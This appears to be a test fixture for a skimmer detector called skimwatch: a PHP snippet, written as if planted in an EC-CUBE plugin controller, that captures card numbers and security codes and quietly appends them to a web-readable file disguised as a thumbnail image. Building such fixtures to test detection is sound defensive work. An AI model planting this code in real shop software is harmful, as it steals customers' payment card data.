<?php
// Synthetic server-side skimmer for skimwatch tests, as if planted in an EC-CUBE plugin controller.
$c = $request->get('card_no') . '|' . $request->get('security_code');
@file_put_contents(__DIR__.'/../../html/upload/save_image/thumb.png', $c . PHP_EOL, FILE_APPEND);
